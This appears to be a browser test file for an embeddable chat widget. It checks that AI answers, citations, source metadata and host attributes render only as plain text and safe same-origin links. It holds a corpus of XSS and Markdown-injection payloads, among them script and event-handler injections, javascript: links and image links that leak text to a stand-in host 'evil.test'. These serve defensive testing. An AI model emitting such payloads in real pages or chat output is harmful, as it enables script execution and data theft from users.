import { beforeAll, expect, it } from 'vitest'
import { describeInBrowser, expectClean, useBrowser } from './browser.ts'
import { type Host, startHost, STRICT_POLICY, toSnippet, TRUSTED_TYPES } from './host.ts'
import { answering, CHUNKS, playChat, toText } from './scripted-chat.ts'

/** What models were made to write to break out of a chat, and what Markdown renderers let through. */
const CORPUS: readonly string[] = [
  '<script>report("script")</script>',
  '<img src=x onerror=report("img")>',
  '<svg/onload=report("svg")>',
  '<svg><script>report("svg-script")</script></svg>',
  '<iframe src="javascript:report(1)"></iframe>',
  '<iframe srcdoc="<script>parent.report(1)</script>"></iframe>',
  '<object data="javascript:report(1)"></object><embed src="javascript:report(1)">',
  '<a href="javascript:report(1)">click</a>',
  '<a href="jAvAsCrIpT&colon;report(1)">click</a>',
  '<form action="https://evil.test"><button formaction="javascript:report(1)">x</button></form>',
  '<base href="https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/x.css"><style>@import "https://evil.test/y.css";</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<math><mtext></p><mglyph><style><img src=x onerror=report(1)>',
  '<details open ontoggle=report(1)>x</details>',
  '<video><source onerror=report(1)></video><audio src=x onerror=report(1)>',
  '<input autofocus onfocus=report(1)><marquee onstart=report(1)>',
  '<template><script>report(1)</script></template><slot name=x onslotchange=report(1)></slot>',
  '<cairn-chat endpoint="https://evil.test"></cairn-chat>',
  '[click](javascript:report(1))',
  '[click](data:text/html,<script>report(1)</script>)',
  '![x](https://evil.test/leak?words=secret)',
  '![x][1]\n\n[1]: https://evil.test/leak "t"',
  '[1]: javascript:report(1)\n\n[1]',
  '[1](javascript:report(1)) [2](https://evil.test)',
  '<https://evil.test/auto> https://evil.test/bare www.evil.test',
  '[![x](https://evil.test/a.png)](https://evil.test)',
  '**<b onmouseover=report(1)>bold</b>** *<i onclick=report(1)>*',
  '> <img src=x onerror=report(1)>\n\n- <img src=x onerror=report(1)>\n\n# <img src=x onerror=report(1)>',
  '```html\n<script>report(1)</script>\n```',
  '`<img src=x onerror=report(1)>`',
  '| a |\n|---|\n| <img src=x onerror=report(1)> |',
  '&lt;script&gt;report(1)&lt;/script&gt; &#x3C;img src=x onerror=report(1)&#x3E;',
  '\u0000<scr\u0000ipt>report(1)</script>',
  '{{constructor.constructor("report(1)")()}} ${report(1)} <%= report(1) %>',
  '"><script>report(1)</script>',
  "' onmouseover='report(1)",
]

const EVIL = '"><img src=x onerror=report(1)>'
const ALLOWED = new Set(['A', 'BLOCKQUOTE', 'EM', 'LI', 'OL', 'P', 'STRONG', 'UL'])

describeInBrowser('whatever an answer says', () => {
  const browser = useBrowser()
  let host: Host
  beforeAll(async () => {
    host = await startHost()
  })

  it('is words: no element, no address and no script comes out of it', async () => {
    playChat(host, answering(...CORPUS.map((text) => `${text}\n\n`)))
    const opened = await browser.open({ ownOrigins: [host.origin] })
    const { page } = opened
    const reported: unknown[] = []
    await page.exposeFunction('report', (name: unknown) => void reported.push(name))
    // Without a policy, so that nothing but the widget stands in the way.
    await page.goto(host.show({ body: toSnippet(host.origin, 'mode="inline"') }))
    await page.getByRole('textbox').fill('What is Robotics?')
    await page.keyboard.press('Enter')
    await page.locator('.turn.done').waitFor()
    await page.waitForTimeout(300)
    const { tags, addresses, words } = await page.locator('.answer-text').evaluate((text) => {
      const all = [...text.querySelectorAll('*')]
      return {
        tags: [...new Set(all.map(({ tagName }) => tagName))],
        addresses: all.flatMap((element) => (element instanceof HTMLAnchorElement ? [new URL(element.href).origin] : [])),
        words: text.textContent,
      }
    })
    expect(tags.filter((tag) => !ALLOWED.has(tag))).toEqual([])
    expect([...new Set(addresses)]).toEqual([host.origin])
    expect(words).toContain('<script>report("script")</script>')
    expect(words).toContain('![x](https://evil.test/leak?words=secret)')
    expect(reported).toEqual([])
    await expectClean(opened)
  })

  it('so are its sources, quotes and questions, and the host’s own words', async () => {
    const facts = {
      ...CHUNKS.source.providerMetadata.cairn,
      passageId: `faq/${EVIL}`,
      url: 'javascript:report(1)',
      document: EVIL,
      publisher: EVIL,
    }
    playChat(host, ({ send, end }) => {
      send({ ...CHUNKS.source, title: EVIL, providerMetadata: { cairn: facts } }, toText('It is [1].'))
      send({ ...CHUNKS.citation, data: { text: 'It is.', citations: [{ n: 1, quote: EVIL, start: 0, end: 9 }] } })
      send(CHUNKS.outcome, CHUNKS.grounding, { ...CHUNKS.followUps, data: { questions: [EVIL] } }, CHUNKS.finish)
      end()
    })
    const opened = await browser.open({ ownOrigins: [host.origin] })
    const { page } = opened
    const reported: unknown[] = []
    await page.exposeFunction('report', (name: unknown) => void reported.push(name))
    const attributes = `mode="inline" heading="&quot;><img src=x onerror=report(1)>" greeting="<img src=x onerror=report(1)>"`
    await page.goto(host.show({ body: toSnippet(host.origin, attributes) }))
    await page.getByRole('textbox').fill(EVIL)
    await page.keyboard.press('Enter')
    await page.locator('.turn.done').waitFor()
    await page.locator('a.marker').hover()
    await page.locator('.citation').waitFor()
    expect(await page.locator('cairn-chat').evaluate((chat) => chat.shadowRoot?.querySelectorAll('img, script').length)).toBe(0)
    const links = await page
      .locator('cairn-chat a:not([href^=tel])')
      .evaluateAll((all) =>
        all.map((link) =>
          link instanceof HTMLAnchorElement ? `${new URL(link.href).origin}${new URL(link.href).pathname.slice(0, 10)}` : '',
        ),
      )
    expect([...new Set(links)]).toEqual([`${host.origin}/passages/`])
    expect(reported).toEqual([])
    await expectClean(opened)
  })

  it('can be copied and printed under the strictest policy', async () => {
    playChat(host, answering('Robotics is a Sub-Cluster of **Advanced Manufacturing** [1].'))
    const opened = await browser.open({ ownOrigins: [host.origin], permissions: ['clipboard-read', 'clipboard-write'] })
    const { page } = opened
    const printed: string[] = []
    await page.exposeFunction('printed', (text: string) => void printed.push(text))
    await page.addInitScript(() => {
      window.print = () => {
        Reflect.apply(Reflect.get(window.top ?? window, 'printed'), null, [
          `${document.title}|${document.body.innerText}|${document.adoptedStyleSheets.length}`,
        ])
        window.dispatchEvent(new Event('afterprint'))
      }
    })
    await page.goto(host.show({ body: toSnippet(host.origin, 'mode="inline"'), policy: `${STRICT_POLICY}; ${TRUSTED_TYPES}` }))
    await page.getByRole('textbox').fill('What is Robotics?')
    await page.keyboard.press('Enter')
    await page.locator('.turn.done').waitFor()
    await page.getByRole('button', { name: 'Copy with sources' }).click()
    await page.getByRole('button', { name: 'Copied' }).waitFor()
    const copied = await page.evaluate(() => navigator.clipboard.readText())
    expect(copied).toContain('Robotics is a Sub-Cluster of Advanced Manufacturing [1].')
    expect(copied).toContain(`${host.origin}/passages/sub-cluster/robotics?start=0&end=25#quote`)
    await page.getByRole('button', { name: 'Print' }).click()
    await page.waitForFunction(() => document.querySelector('cairn-chat')?.shadowRoot?.querySelector('iframe') === null)
    expect(printed).toHaveLength(1)
    expect(printed[0]).toMatch(/^Cairn\|You asked:\s+What is Robotics\?.*Advanced Manufacturing.*Crosswalk workbooks.*\|1$/s)
    expect(printed[0]).not.toContain('Book a time with us')
    await expectClean(opened)
  })
})
